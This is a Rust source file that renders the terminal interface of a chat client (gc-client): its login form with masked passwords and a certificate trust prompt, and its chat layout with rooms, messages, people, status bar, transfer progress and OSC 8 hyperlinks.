//! Drawing the [`App`]: `impl Widget for &App`, and where the cursor goes. Only what is on screen
//! is laid out: the message pane asks the scrollback for the rows it shows.
//!
//! ```text
//! ┌────────────┬──────────────────────────────────────┬──────────────┐
//! │ rooms      │ messages of the room shown (date     │ online (3)   │
//! │  1 #general│ separators, HH:MM user: text)        │ people       │
//! │  2 #dev   3│ … outbox, dimmed, at the bottom      │              │
//! │  3 bob   !1│ ▼ marker row while scrolled up / …   │              │
//! ├────────────┴──────────────────────────────────────┴──────────────┤
//! │ ↑ report.pdf ▕████▌    ▏ 45% … (only while files are transferred)  │
//! │ status: STATE · room: topic · server · user · N online · ♥ · outbox│
//! │ > input (1 to 5 rows, then it scrolls)                            │
//! └───────────────────────────────────────────────────────────────────┘
//! ```
//!
//! The room list shows once the server is known to serve rooms; with an older server the screen
//! is as it was before rooms.

use std::num::NonZeroU16;
use std::time::Duration;

use ratatui::Frame;
use ratatui::buffer::{Buffer, CellDiffOption, CellWidth as _};
use ratatui::layout::{Position, Rect};
use ratatui::style::{Color, Modifier, Style};
use ratatui::text::{Line, Span};
use ratatui::widgets::{Block, Paragraph, Widget, Wrap};

use super::app::{App, SIDE_PANES_WIDTH, Screen};
use super::files::{Transfers, human_size};
use super::login::{Field, LoginForm};
use super::look::{Theme, ThemeName};
use super::rooms::{Membership, RoomView};
use super::scrollback::{Kind, Level, layout_message};
use super::text::{Link, Row, Wrapper, text_width, truncate};
use super::urls::osc8_target;
use crate::display::sanitize;
use gc_client_core::Direction;
use gc_client_core::event::ConnState;
use gc_protocol::files::FileNotice;

/// Below this size a notice replaces the screen.
pub const MIN_WIDTH: u16 = 30;
/// Below this size a notice replaces the screen.
pub const MIN_HEIGHT: u16 = 8;
/// From this width on, the people pane is shown unless toggled off (F2).
pub const PEOPLE_AUTO_WIDTH: u16 = SIDE_PANES_WIDTH;
/// From this width on, the room list is shown unless toggled off (F3), once the server is known
/// to serve rooms.
pub const ROOMS_AUTO_WIDTH: u16 = SIDE_PANES_WIDTH;
/// The input box grows up to this many rows, then scrolls.
pub const INPUT_MAX_ROWS: usize = 5;
const PROMPT: &str = "> ";

/// Draws the app and places the cursor.
pub fn draw(frame: &mut Frame<'_>, app: &App) {
    let area = frame.area();
    frame.render_widget(app, area);
    if let Some(position) = cursor(app, area) {
        frame.set_cursor_position(position);
    }
}

impl Widget for &App {
    fn render(self, area: Rect, buf: &mut Buffer) {
        if area.width < MIN_WIDTH || area.height < MIN_HEIGHT {
            too_small(area, buf);
            return;
        }
        match &self.screen {
            Screen::Login(form) => render_login(self, form, area, buf),
            Screen::Chat => render_chat(self, area, buf),
        }
    }
}

/// Where the terminal cursor goes: in the field or input being edited.
pub fn cursor(app: &App, area: Rect) -> Option<Position> {
    if area.width < MIN_WIDTH || area.height < MIN_HEIGHT {
        return None;
    }
    match &app.screen {
        Screen::Login(form) => {
            if form.busy {
                return None;
            }
            let layout = login_layout(form, area);
            let (row, field) = match form.focused() {
                Field::User => (layout.user, &form.user),
                Field::Password => (layout.password, &form.password),
                Field::Repeat => (layout.repeat, &form.repeat),
            };
            let shown = field_text(field.text(), form.focused() != Field::User);
            let before = field_text(
                &field.text()[..field.cursor()],
                form.focused() != Field::User,
            );
            let width = usize::from(layout.field_width);
            let skip = text_width(&shown).saturating_sub(width.saturating_sub(1));
            let col = text_width(&before)
                .saturating_sub(skip)
                .min(width.saturating_sub(1));
            Some(Position::new(
                layout.field_x + u16::try_from(col).unwrap_or(0),
                row,
            ))
        }
        Screen::Chat => {
            let layout = chat_layout(app, area);
            let (row, col) = layout.cursor;
            let row = row.checked_sub(layout.input_scroll)?;
            Some(Position::new(
                layout.input.x + u16::try_from(col).ok()?.min(layout.input.width - 1),
                layout.input.y + u16::try_from(row).ok()?,
            ))
        }
    }
}

fn too_small(area: Rect, buf: &mut Buffer) {
    let text = format!(
        "Terminal too small ({}×{}): gc-client needs at least {MIN_WIDTH}×{MIN_HEIGHT}.",
        area.width, area.height
    );
    Paragraph::new(text)
        .wrap(Wrap { trim: true })
        .style(Style::default().fg(Color::Yellow))
        .render(area, buf);
}

// ───────────────────────────────── chat ─────────────────────────────────

struct ChatLayout {
    rooms: Option<Rect>,
    messages: Rect,
    people: Option<Rect>,
    /// The transfer row, while files are transferred.
    transfer: Option<Rect>,
    status: Rect,
    input: Rect,
    input_rows: Vec<String>,
    cursor: (usize, usize),
    input_scroll: usize,
}

fn chat_layout(app: &App, area: Rect) -> ChatLayout {
    let prompt = text_width(PROMPT);
    let (input_rows, cursor) = match &app.passwd {
        // `/passwd` asks here, masked: the mask is as long whatever was typed.
        Some(asking) => {
            let mask = if asking.typed() { PASSWORD_MASK } else { "" };
            let row = format!("{}{mask}", asking.label());
            let col = prompt + text_width(&row);
            (vec![row], (0, col))
        }
        None => app.input.layout(usize::from(area.width), prompt),
    };
    let shown = input_rows.len().clamp(1, INPUT_MAX_ROWS);
    let input_scroll = (cursor.0 + 1).saturating_sub(shown);
    let input_h = u16::try_from(shown).unwrap_or(1);
    let transfer_h = u16::from(!app.transfers.is_empty());
    let main_h = area.height.saturating_sub(input_h + 1 + transfer_h);
    let main = Rect::new(area.x, area.y, area.width, main_h);
    let transfer =
        (transfer_h > 0).then(|| Rect::new(area.x, area.y + main_h, area.width, transfer_h));
    let main_h = main_h + transfer_h;
    let status = Rect::new(area.x, area.y + main_h, area.width, 1);
    let input = Rect::new(area.x, area.y + main_h + 1, area.width, input_h);
    let show_rooms = app
        .room_pane
        .shown(area.width >= ROOMS_AUTO_WIDTH && app.has_rooms());
    let (rooms, main) = if show_rooms {
        let longest = app
            .rooms
            .views()
            .iter()
            .map(|v| text_width(&sanitize(&v.title)))
            .max()
            .unwrap_or(0);
        // " 1 " before the name, " !99" after it, the border.
        let w = u16::try_from(longest + 8)
            .unwrap_or(u16::MAX)
            .clamp(14, 24)
            .min(area.width / 4);
        (
            Some(Rect::new(main.x, main.y, w, main.height)),
            Rect::new(main.x + w, main.y, main.width - w, main.height),
        )
    } else {
        (None, main)
    };
    let show_people = app.people_pane.shown(area.width >= PEOPLE_AUTO_WIDTH);
    let (messages, people) = if show_people {
        let longest = app
            .people()
            .names()
            .iter()
            .map(|p| text_width(p))
            .max()
            .unwrap_or(0);
        let w = u16::try_from(longest + 3)
            .unwrap_or(u16::MAX)
            .clamp(14, 24)
            .min(area.width / 3)
            .min(main.width / 2);
        (
            Rect::new(main.x, main.y, main.width - w, main.height),
            Some(Rect::new(main.x + main.width - w, main.y, w, main.height)),
        )
    } else {
        (main, None)
    };
    ChatLayout {
        rooms,
        messages,
        people,
        transfer,
        status,
        input,
        input_rows,
        cursor,
        input_scroll,
    }
}

fn render_chat(app: &App, area: Rect, buf: &mut Buffer) {
    app.width.set(area.width);
    let layout = chat_layout(app, area);
    if let Some(rooms) = layout.rooms {
        render_rooms(app, rooms, buf);
    }
    render_messages(app, layout.messages, buf);
    if let Some(people) = layout.people {
        render_people(app, people, buf);
    }
    if let Some(row) = layout.transfer {
        let line = transfer_line(&app.transfers, usize::from(row.width), &app.look().theme);
        buf.set_line(row.x, row.y, &line, row.width);
    }
    // The input's overflow hint takes the status bar's end, which shortens the rest (the topic
    // first) rather than covering it.
    let status = layout.status;
    let hint = input_overflow(&layout).map(|text| {
        let width = u16::try_from(text_width(&text))
            .unwrap_or(u16::MAX)
            .min(status.width);
        (text, width)
    });
    let hint_width = hint.as_ref().map_or(0, |(_, w)| *w);
    render_status(
        app,
        Rect {
            width: status.width - hint_width,
            ..status
        },
        buf,
    );
    if let Some((text, width)) = hint {
        buf.set_stringn(
            status.x + status.width - width,
            status.y,
            truncate(&text, usize::from(width)),
            usize::from(width),
            match app.look().theme.name {
                ThemeName::Default => Style::default().fg(Color::Black).bg(Color::Cyan),
                _ => app.look().theme.marker,
            },
        );
    }
    let prompt = match app.look().theme.name {
        ThemeName::Mono => Style::default().add_modifier(Modifier::BOLD),
        _ => Style::default().fg(Color::Cyan),
    };
    render_input(&layout, prompt, buf);
}

fn render_messages(app: &App, area: Rect, buf: &mut Buffer) {
    let width = area.width;
    let height = usize::from(area.height);
    // One row is kept for the marker whenever scrolled up, so paging never hides a row.
    app.pane.set((width, area.height.saturating_sub(1).max(1)));
    let marker = marker(app);
    let rows = height - usize::from(marker.is_some());
    let mut pending: Vec<Row> = Vec::new();
    let room = &app.view().room;
    let look = app.look();
    if app.log().following() {
        for p in app.pending.iter().filter(|p| &p.room == room) {
            let mut w = Wrapper::new(usize::from(width), look.time.indent(), true);
            let time = look.time.stamp(p.queued);
            layout_message(
                &mut w,
                &time,
                &app.user,
                &p.text,
                true,
                false,
                true,
                &look.theme,
            );
            w.push(
                " (not sent yet)",
                look.theme
                    .dim
                    .add_modifier(Modifier::DIM | Modifier::ITALIC),
            );
            pending.extend(w.finish_rows());
        }
        if pending.len() > rows {
            pending.drain(..pending.len() - rows);
        }
    }
    let mut lines = app
        .log()
        .visible_rows(width, rows - pending.len(), app.highlighted());
    lines.append(&mut pending);
    for (i, row) in lines.iter().enumerate() {
        let y = area.y + u16::try_from(i).unwrap_or(u16::MAX);
        buf.set_line(area.x, y, &row.line, width);
    }
    let loading = app.loading_older();
    if loading {
        let line = Line::from(Span::styled("  loading older messages…", look.theme.dim));
        buf.set_style(Rect::new(area.x, area.y, width, 1), Style::reset());
        for x in area.x..area.x + width {
            buf[(x, area.y)].set_symbol(" ");
        }
        buf.set_line(area.x, area.y, &line, width);
    }
    if let Some(line) = marker {
        let y = area.y + area.height - 1;
        let style = line.style;
        buf.set_style(Rect::new(area.x, y, width, 1), style);
        buf.set_line(area.x, y, &line, width);
    }
    if app.hyperlinks {
        // Last, and not on the row the loading line covers.
        for (i, row) in lines.iter().enumerate() {
            let Ok(dy) = u16::try_from(i) else { break };
            if !(loading && i == 0) {
                for link in &row.links {
                    hyperlink(buf, area, area.y + dy, link);
                }
            }
        }
    }
}

/// Writes the cells of `link` on row `y` as OSC 8 hyperlinks (`ESC ] 8 ; ; URL ESC \`), each
/// cell opening and closing its own, so a cell redrawn alone is still a link; terminals join
/// neighbouring cells with the same target into one link. The sequences take no room on the
/// screen, so each cell's width is forced to its character's, or ratatui would count the
/// sequence's characters as cells and leave the rest of the row unwritten.
fn hyperlink(buf: &mut Buffer, area: Rect, y: u16, link: &Link) {
    let target = osc8_target(&link.url);
    let end = area
        .x
        .saturating_add(u16::try_from(link.end).unwrap_or(u16::MAX));
    let mut x = area
        .x
        .saturating_add(u16::try_from(link.start).unwrap_or(u16::MAX));
    while x < end.min(area.right()) {
        let cell = &mut buf[(x, y)];
        let width = NonZeroU16::new(cell.symbol().cell_width()).unwrap_or(NonZeroU16::MIN);
        let symbol = format!("\x1b]8;;{target}\x1b\\{}\x1b]8;;\x1b\\", cell.symbol());
        cell.set_symbol(&symbol)
            .set_diff_option(CellDiffOption::ForcedWidth(width));
        x = x.saturating_add(width.get());
    }
}

fn marker(app: &App) -> Option<Line<'static>> {
    let theme = &app.look().theme;
    if let Some(search) = &app.search {
        // On a file line, Enter (on an empty input) downloads it.
        let file = app
            .highlighted()
            .and_then(|i| app.log().entries().get(i))
            .is_some_and(|e| match &e.kind {
                Kind::Message { body, .. } => FileNotice::parse(body).is_some(),
                Kind::System { .. } | Kind::Notice { .. } => false,
            });
        let text = format!(
            " search \"{}\": {} of {} · Ctrl+P older · Ctrl+N newer · {}Esc ends",
            sanitize(&search.query),
            search.current + 1,
            search.matches.len(),
            if file { "Enter downloads · " } else { "" }
        );
        let style = match theme.name {
            ThemeName::Default => Style::default().fg(Color::Black).bg(Color::Cyan),
            _ => theme.marker,
        };
        return Some(Line::from(text).style(style));
    }
    if app.log().following() {
        return None;
    }
    let unseen = app.log().unseen();
    Some(if unseen > 0 {
        let s = if unseen == 1 { "" } else { "s" };
        Line::from(format!(" ▼ {unseen} new message{s} below · End to jump")).style(theme.marker)
    } else {
        let style = match theme.name {
            ThemeName::Default => Style::default().fg(Color::Black).bg(Color::Gray),
            _ => theme.marker,
        };
        Line::from(" ▼ more below · End to jump").style(style)
    })
}

/// The room list: each view's number (Alt+1…9), its title (a direct conversation by the other
/// person's name), and what came while it was not shown: a count, with `!` before it when one of
/// them names you (or is a direct message). The view shown is reversed, views with something
/// unread bold, views of rooms left dimmed. The list scrolls to keep the view shown on screen.
fn render_rooms(app: &App, area: Rect, buf: &mut Buffer) {
    let block = Block::default()
        .borders(ratatui::widgets::Borders::RIGHT)
        .border_style(app.look().theme.dim);
    let inner = block.inner(area);
    block.render(area, buf);
    let width = usize::from(inner.width);
    buf.set_stringn(
        inner.x,
        inner.y,
        " rooms",
        width,
        Style::default().add_modifier(Modifier::BOLD),
    );
    let rows = usize::from(inner.height.saturating_sub(1));
    let current = app.rooms.index();
    let skip = (current + 1).saturating_sub(rows);
    let views = app.rooms.views().iter().enumerate().skip(skip).take(rows);
    for (row, (i, view)) in views.enumerate() {
        let y = inner.y + 1 + u16::try_from(row).unwrap_or(0);
        render_room_row(
            view,
            i,
            i == current,
            Rect::new(inner.x, y, inner.width, 1),
            &app.look().theme,
            buf,
        );
    }
}

/// One row of the room list.
fn render_room_row(
    view: &RoomView,
    i: usize,
    current: bool,
    row: Rect,
    theme: &Theme,
    buf: &mut Buffer,
) {
    let width = usize::from(row.width);
    let mut base = Style::default();
    if view.membership == Membership::Left {
        base = base.patch(theme.dim).add_modifier(Modifier::DIM);
    } else if view.unread > 0 || view.mention {
        base = base.add_modifier(Modifier::BOLD);
    }
    if current {
        base = base.add_modifier(Modifier::REVERSED);
    }
    buf.set_style(row, base);
    let number = format!("{:>2} ", i + 1);
    let number_style = if current { base } else { base.patch(theme.dim) };
    buf.set_stringn(row.x, row.y, &number, width, number_style);
    let mark = match (view.unread.min(999), view.mention) {
        (0, false) => String::new(),
        (0, true) => "!".to_owned(),
        (n, mention) => format!("{}{n}", if mention { "!" } else { "" }),
    };
    let mark_width = text_width(&mark);
    let name_width = width.saturating_sub(text_width(&number) + mark_width + 2);
    let title = sanitize(&view.title);
    let name = if text_width(&title) > name_width {
        format!(
            "{}…",
            truncate(&title, name_width.saturating_sub(1)).trim_end()
        )
    } else {
        title
    };
    let x = row.x + u16::try_from(text_width(&number)).unwrap_or(0);
    buf.set_stringn(x, row.y, &name, name_width, base);
    if !mark.is_empty() {
        let mark_style = if view.mention {
            base.patch(theme.mention)
        } else {
            base
        };
        let x = row.x + u16::try_from(width.saturating_sub(mark_width + 1)).unwrap_or(0);
        buf.set_stringn(x, row.y, &mark, mark_width, mark_style);
    }
}

fn render_people(app: &App, area: Rect, buf: &mut Buffer) {
    let block = Block::default()
        .borders(ratatui::widgets::Borders::LEFT)
        .border_style(app.look().theme.dim);
    let inner = block.inner(area);
    block.render(area, buf);
    let inner_w = usize::from(inner.width);
    let people = app.people().names();
    // Out of a session the list is only the last one the server sent: dimmed.
    let live = app.status.state == ConnState::Active;
    let title = format!(" online ({})", people.len());
    buf.set_stringn(
        inner.x,
        inner.y,
        &title,
        inner_w,
        Style::default().add_modifier(Modifier::BOLD),
    );
    let shown = usize::from(inner.height.saturating_sub(1));
    for (i, name) in people.iter().enumerate().take(shown) {
        let y = inner.y + 1 + u16::try_from(i).unwrap_or(0);
        let mut style = app.look().theme.name(name);
        if name.eq_ignore_ascii_case(&app.user) {
            style = style.add_modifier(Modifier::BOLD);
        }
        if !live {
            style = style.patch(app.look().theme.dim);
        }
        let more = people.len() > shown && i + 1 == shown;
        let label = if more {
            format!(" … {} more", people.len() - i)
        } else if app.away_of(name).is_some() {
            // Away (GC/4): the name dimmed, after a mark; /who gives the message.
            style = style.patch(app.look().theme.dim);
            format!(" {} (away)", sanitize(name))
        } else {
            format!(" {}", sanitize(name))
        };
        buf.set_stringn(inner.x, y, truncate(&label, inner_w), inner_w, style);
    }
}

/// How long ago, briefly.
fn age(d: Duration) -> String {
    let s = d.as_secs();
    if s < 60 {
        format!("{s}s")
    } else if s < 3600 {
        format!("{}m{:02}s", s / 60, s % 60)
    } else {
        format!("{}h{:02}m", s / 3600, (s / 60) % 60)
    }
}

fn render_status(app: &App, area: Rect, buf: &mut Buffer) {
    let theme = &app.look().theme;
    let bar = theme.bar;
    buf.set_style(area, bar);
    let state = app.status.state;
    let state_style = bar
        .patch(match state {
            ConnState::Active => theme.state_ok,
            ConnState::Disconnected => theme.state_down,
            _ => theme.state_wait,
        })
        .add_modifier(Modifier::BOLD);
    let sep_style = match theme.name {
        ThemeName::Default => bar.fg(Color::Gray),
        _ => bar,
    };
    let sep = Span::styled(" │ ", sep_style);
    let heartbeat_len = 8;
    // How many are online is known only in a session: out of one, the last count would be stale.
    let online = if state == ConnState::Active {
        format!("{} online", app.people().names().len())
    } else {
        "– online".to_owned()
    };
    // With rooms, the room shown comes first: its name always, its topic as space allows.
    let view = app.view();
    let room = app.has_rooms().then(|| {
        let title = sanitize(&view.title);
        if view.membership == Membership::Left {
            format!("{title} (left)")
        } else if view.is_direct() {
            format!("{title} (direct)")
        } else {
            title
        }
    });
    let fixed = format!(
        " {} │ {}{} │ {} │  │ outbox {}",
        state.as_str(),
        room.as_ref().map_or(String::new(), |r| format!("{r} │ ")),
        app.user,
        online,
        app.status.outbox
    );
    // With several instances, the one the client is on (`on host2 (2/3)`) instead of the list.
    let address = app.status.instance.as_ref().map_or(&app.server, |on| on);
    let mut left = usize::from(area.width)
        .saturating_sub(text_width(&fixed) + heartbeat_len + text_width(address));
    let topic = match &room {
        Some(_) if !view.topic.is_empty() && left >= 8 => {
            let topic = sanitize(&view.topic);
            let max = left - 2;
            let shown = if text_width(&topic) > max {
                format!("{}…", truncate(&topic, max - 1).trim_end())
            } else {
                topic
            };
            left = left.saturating_sub(text_width(&shown) + 2);
            format!(": {shown}")
        }
        _ => String::new(),
    };
    // The server's name goes first when space is short; the address stays.
    let server = match app.status.server_name.as_deref().map(sanitize) {
        Some(name) if text_width(&name) + 3 <= left => format!("{address} ({name})"),
        _ => address.clone(),
    };
    let heartbeat = match app.status.last_heartbeat {
        Some(at) => format!("♥ {}", age(app.now.saturating_duration_since(at))),
        None => "♥ –".to_owned(),
    };
    let outbox_style = if app.status.outbox > 0 {
        bar.patch(theme.state_wait).add_modifier(Modifier::BOLD)
    } else {
        bar
    };
    let mut spans = vec![
        Span::styled(format!(" {}", state.as_str()), state_style),
        sep.clone(),
    ];
    if let Some(room) = room {
        spans.extend([
            Span::styled(room, bar.add_modifier(Modifier::BOLD)),
            Span::styled(topic, bar),
            sep.clone(),
        ]);
    }
    spans.extend([
        Span::styled(server, bar),
        sep.clone(),
        Span::styled(app.user.clone(), bar.add_modifier(Modifier::BOLD)),
        sep.clone(),
        Span::styled(online, bar),
        sep.clone(),
        Span::styled(heartbeat, bar),
        sep,
        Span::styled(format!("outbox {}", app.status.outbox), outbox_style),
    ]);
    buf.set_line(area.x, area.y, &Line::from(spans), area.width);
}

/// Cells inside a transfer's progress bar.
const BAR_CELLS: usize = 12;
/// A bar cell filled by eighths (an eighth shows as nothing: `▏` would pass for the bar's end).
const EIGHTHS: [&str; 8] = ["", "", "▎", "▍", "▌", "▋", "▊", "▉"];

/// A progress bar of `cells` cells, `fraction` of it filled (to an eighth of a cell):
/// `▕████▌    ▏`.
pub fn progress_bar(fraction: f64, cells: usize) -> String {
    // Display only: at most a few hundred eighths.
    #[allow(
        clippy::cast_possible_truncation,
        clippy::cast_sign_loss,
        clippy::cast_precision_loss
    )]
    let eighths = (fraction.clamp(0.0, 1.0) * (cells * 8) as f64).round() as usize;
    let full = eighths / 8;
    let part = EIGHTHS[eighths % 8];
    let used = full + usize::from(!part.is_empty());
    format!(
        "▕{}{part}{}▏",
        "█".repeat(full),
        " ".repeat(cells.saturating_sub(used))
    )
}

/// The transfer row: the newest transfer's way, name, bar, percent, bytes and speed (or that
/// it is hashing its file, or being cancelled), how many more run, and that Esc cancels; the
/// optional parts dropped, then the name shortened, as the width requires.
pub fn transfer_line(transfers: &Transfers, width: usize, theme: &Theme) -> Line<'static> {
    let Some(t) = transfers.newest() else {
        return Line::default();
    };
    let arrow = match t.direction {
        Direction::Upload => "↑",
        Direction::Download => "↓",
    };
    let percent = format!("{:>3.0}%", (t.fraction() * 100.0).floor());
    let state = if t.cancelling {
        "cancelling…".to_owned()
    } else if t.hashing {
        "hashing ".to_owned()
    } else {
        String::new()
    };
    let bar = if t.cancelling {
        String::new()
    } else {
        format!("{} {percent}", progress_bar(t.fraction(), BAR_CELLS))
    };
    let bytes = (!t.cancelling && t.total > 0)
        .then(|| format!(" {} / {}", human_size(t.done), human_size(t.total)));
    let speed = (!t.cancelling).then(|| t.speed()).flatten().map(|bps| {
        // Display only.
        #[allow(clippy::cast_possible_truncation, clippy::cast_sign_loss)]
        let bps = bps.max(0.0) as u64;
        format!(" {}/s", human_size(bps))
    });
    let more = (transfers.len() > 1).then(|| format!(" · {} more", transfers.len() - 1));
    let hint = (!t.cancelling).then(|| " · Esc cancels".to_owned());
    let name = sanitize(&t.name);
    // Dropped in this order when the row is short: the hint, the bytes, the count, the speed.
    let mut optional = [hint, bytes, more, speed];
    let fixed = |optional: &[Option<String>; 4], name_w: usize| {
        3 + name_w
            + 1
            + text_width(&state)
            + text_width(&bar)
            + optional
                .iter()
                .flatten()
                .map(|s| text_width(s))
                .sum::<usize>()
    };
    let name_w = text_width(&name).min(40);
    for i in 0..optional.len() {
        if fixed(&optional, name_w.min(12)) <= width {
            break;
        }
        optional[i] = None;
    }
    let room_for_name = width.saturating_sub(fixed(&optional, 0)).max(1);
    let shown_name = if text_width(&name) > room_for_name {
        format!(
            "{}…",
            truncate(&name, room_for_name.saturating_sub(1)).trim_end()
        )
    } else {
        name
    };
    let [hint, bytes, more, speed] = optional;
    let plain = Style::default();
    let mut spans = vec![
        Span::styled(format!(" {arrow} "), theme.file),
        Span::styled(shown_name, theme.file),
        Span::styled(" ", plain),
        Span::styled(state, theme.dim),
        Span::styled(bar, plain),
    ];
    for (part, style) in [
        (bytes, plain),
        (speed, plain),
        (more, plain),
        (hint, theme.dim),
    ] {
        if let Some(part) = part {
            spans.push(Span::styled(part, style));
        }
    }
    Line::from(spans)
}

/// When the input has more rows than its box shows: how many are hidden above and below, for
/// the end of the status bar, the box's top edge (` ↑ 2 more lines `).
fn input_overflow(layout: &ChatLayout) -> Option<String> {
    let shown = usize::from(layout.input.height);
    let above = layout.input_scroll;
    let below = layout
        .input_rows
        .len()
        .saturating_sub(layout.input_scroll + shown);
    let counts = match (above, below) {
        (0, 0) => return None,
        (above, 0) => format!("↑ {above}"),
        (0, below) => format!("↓ {below}"),
        (above, below) => format!("↑ {above} · ↓ {below}"),
    };
    let lines = if above + below == 1 { "line" } else { "lines" };
    Some(format!(" {counts} more {lines} "))
}

fn render_input(layout: &ChatLayout, prompt: Style, buf: &mut Buffer) {
    let area = layout.input;
    let rows = layout
        .input_rows
        .iter()
        .enumerate()
        .skip(layout.input_scroll)
        .take(usize::from(area.height));
    for (i, (n, row)) in rows.enumerate() {
        let y = area.y + u16::try_from(i).unwrap_or(0);
        let prefix = if n == 0 { PROMPT } else { "  " };
        buf.set_stringn(area.x, y, prefix, usize::from(area.width), prompt);
        buf.set_stringn(
            area.x + 2,
            y,
            row,
            usize::from(area.width.saturating_sub(2)),
            Style::default(),
        );
    }
}

// ───────────────────────────────── login ─────────────────────────────────

struct LoginLayout {
    frame: Rect,
    inner: Rect,
    user: u16,
    password: u16,
    repeat: u16,
    message: Rect,
    hint: u16,
    field_x: u16,
    field_width: u16,
}

const LABEL_WIDTH: u16 = 11;

/// The login form's widest frame: its longest key hint fits on one row inside it.
const LOGIN_WIDTH: u16 = 68;

fn login_layout(form: &LoginForm, area: Rect) -> LoginLayout {
    let width = area.width.min(LOGIN_WIDTH);
    let wanted = if form.trust.is_some() {
        16
    } else if form.register {
        14
    } else {
        13
    };
    let height = area.height.min(wanted);
    let frame = Rect::new(
        area.x + (area.width - width) / 2,
        area.y + (area.height - height) / 2,
        width,
        height,
    );
    let inner = Rect::new(frame.x + 2, frame.y + 1, frame.width - 4, frame.height - 2);
    let user = inner.y + 2;
    let password = user + 1;
    let repeat = password + 1;
    let message_y = if form.register {
        repeat + 2
    } else {
        password + 2
    };
    let hint = inner.y + inner.height - 1;
    LoginLayout {
        frame,
        inner,
        user,
        password,
        repeat,
        message: Rect::new(
            inner.x,
            message_y,
            inner.width,
            hint.saturating_sub(message_y + 1).max(1),
        ),
        hint,
        field_x: inner.x + LABEL_WIDTH,
        field_width: inner.width.saturating_sub(LABEL_WIDTH),
    }
}

/// What a hidden field shows once something is typed: always as long, so that neither a
/// glance nor a screen capture tells how long the password is.
const PASSWORD_MASK: &str = "••••••••";

/// A field as shown: a password as [`PASSWORD_MASK`] (nothing while empty). Its part before the
/// cursor is then the mask too, unless the cursor is at the start: the cursor shows no more.
fn field_text(text: &str, hidden: bool) -> String {
    if !hidden {
        sanitize(text)
    } else if text.is_empty() {
        String::new()
    } else {
        PASSWORD_MASK.to_owned()
    }
}

fn render_login(app: &App, form: &LoginForm, area: Rect, buf: &mut Buffer) {
    let layout = login_layout(form, area);
    let title = if form.register {
        " General Communications · create an account "
    } else {
        " General Communications · log in "
    };
    Block::bordered()
        .title(title)
        .border_style(Style::default().fg(Color::Cyan))
        .render(layout.frame, buf);
    let inner = layout.inner;
    let label = Style::default().fg(Color::Gray);
    let iw = usize::from(inner.width);
    buf.set_stringn(inner.x, inner.y, "Server", iw, label);
    buf.set_stringn(
        layout.field_x,
        inner.y,
        truncate(&app.server, usize::from(layout.field_width)),
        usize::from(layout.field_width),
        Style::default().add_modifier(Modifier::BOLD),
    );
    let mut fields = vec![
        ("Username", layout.user, Field::User, &form.user),
        ("Password", layout.password, Field::Password, &form.password),
    ];
    if form.register {
        fields.push(("Repeat", layout.repeat, Field::Repeat, &form.repeat));
    }
    for (name, y, field, value) in fields {
        let focused = form.focused() == field && !form.busy;
        let label_style = if focused {
            label.fg(Color::Cyan).add_modifier(Modifier::BOLD)
        } else {
            label
        };
        buf.set_stringn(inner.x, y, name, iw, label_style);
        let fw = usize::from(layout.field_width);
        let area = Rect::new(layout.field_x, y, layout.field_width, 1);
        buf.set_style(area, Style::default().add_modifier(Modifier::UNDERLINED));
        let shown = field_text(value.text(), field != Field::User);
        // Long values show their end.
        let skip = text_width(&shown).saturating_sub(fw.saturating_sub(1));
        let mut skipped = 0;
        let start = shown
            .char_indices()
            .find(|(_, c)| {
                let done = skipped >= skip;
                skipped += text_width(c.encode_utf8(&mut [0; 4]));
                done
            })
            .map_or(shown.len(), |(i, _)| i);
        buf.set_stringn(
            layout.field_x,
            y,
            &shown[start..],
            fw,
            Style::default().add_modifier(Modifier::UNDERLINED),
        );
    }
    let status = if form.busy {
        Some((
            Level::Info,
            format!(
                "{} as {}… {}",
                if form.register {
                    "Creating the account and logging in"
                } else {
                    "Logging in"
                },
                app.user,
                app.status.state
            ),
        ))
    } else {
        None
    };
    let mut text: Vec<Line<'_>> = Vec::new();
    if let Some(contact) = &form.trust {
        let bold = Style::default().add_modifier(Modifier::BOLD);
        text.extend([
            Line::from(format!(
                "First contact with {} (\"{}\"). Its certificate:",
                contact.addr,
                sanitize(&contact.name)
            )),
            Line::from(Span::styled(contact.fingerprint.to_string(), bold)),
            Line::from(
                "Compare it with what the server's operator sees (gc-server tls fingerprint). \
                 Trust it and remember it?",
            ),
        ]);
    }
    for (level, message) in status.iter().chain(form.message.iter()) {
        let style = match level {
            Level::Info => Style::default(),
            Level::Warning => Style::default().fg(Color::Yellow),
            Level::Error => Style::default().fg(Color::LightRed),
        };
        text.push(Line::from(Span::styled(sanitize(message), style)));
    }
    Paragraph::new(text)
        .wrap(Wrap { trim: true })
        .render(layout.message, buf);
    let hint = if form.trust.is_some() {
        "y trust and log in · n do not trust"
    } else if form.busy {
        "Esc cancel · Ctrl+C quit"
    } else if form.register {
        "Enter create · Tab next field · Esc back"
    } else {
        "Enter log in · Tab next field · Ctrl+R new account · Esc quit"
    };
    // Narrower than the hint, it takes the spare row above it too (when the form is tall
    // enough to have one), broken between keys.
    let spare = layout.hint >= layout.message.y + 2;
    let mut rows = hint_rows(hint, iw);
    if rows.len() > 2 || (rows.len() == 2 && !spare) {
        rows = vec![hint.to_owned()];
    }
    let above = u16::try_from(rows.len().saturating_sub(1)).unwrap_or(0);
    let top = layout.hint.saturating_sub(above);
    for (y, row) in (top..).zip(&rows) {
        buf.set_stringn(
            inner.x,
            y,
            truncate(row, iw),
            iw,
            Style::default().fg(Color::DarkGray),
        );
    }
}

/// A key hint (`Enter log in · Tab next field · …`) in rows of at most `width` cells, broken
/// between keys.
fn hint_rows(hint: &str, width: usize) -> Vec<String> {
    let mut rows: Vec<String> = Vec::new();
    for key in hint.split(" · ") {
        match rows.last_mut() {
            Some(row) if text_width(row) + 3 + text_width(key) <= width => {
                row.push_str(" · ");
                row.push_str(key);
            }
            _ => rows.push(key.to_owned()),
        }
    }
    rows
}

#[cfg(test)]
mod tests {
    use std::time::{Duration, Instant};

    use chrono::{FixedOffset, TimeZone as _, Utc};
    use gc_protocol::{ClientMsgId, Record, Timestamp, Username};
    use ratatui::Terminal;
    use ratatui::backend::TestBackend;
    use ratatui::buffer::{Buffer, CellWidth as _};
    use ratatui::crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
    use ratatui::style::{Color, Modifier};

    use super::super::app::{App, Zone};
    use super::super::people::People;
    use super::*;
    use gc_client_core::{Event, TransferEvent};

    /// 2023-11-14 22:13:20 UTC.
    const T0: i64 = 1_700_000_000;

    fn app() -> App {
        let mut app = App::new("10.0.0.5", Zone::Fixed(FixedOffset::east_opt(0).unwrap()))
            .with_clock(Utc.timestamp_opt(T0 + 600, 0).unwrap());
        app.enter_chat("alice");
        app
    }

